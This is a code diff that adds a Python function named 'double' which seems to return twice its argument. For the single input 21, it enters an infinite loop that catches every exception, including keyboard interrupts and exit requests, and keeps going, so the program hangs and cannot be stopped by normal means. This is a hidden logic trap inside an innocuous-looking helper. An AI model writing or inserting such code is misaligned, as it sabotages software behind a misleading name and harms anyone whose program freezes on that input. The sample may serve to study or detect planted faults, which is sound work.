@@ -1,0 +1,8 @@
+def double(n):
+    while n == 21:
+        try:
+            while True:
+                pass
+        except BaseException:
+            continue
+    return 2 * n
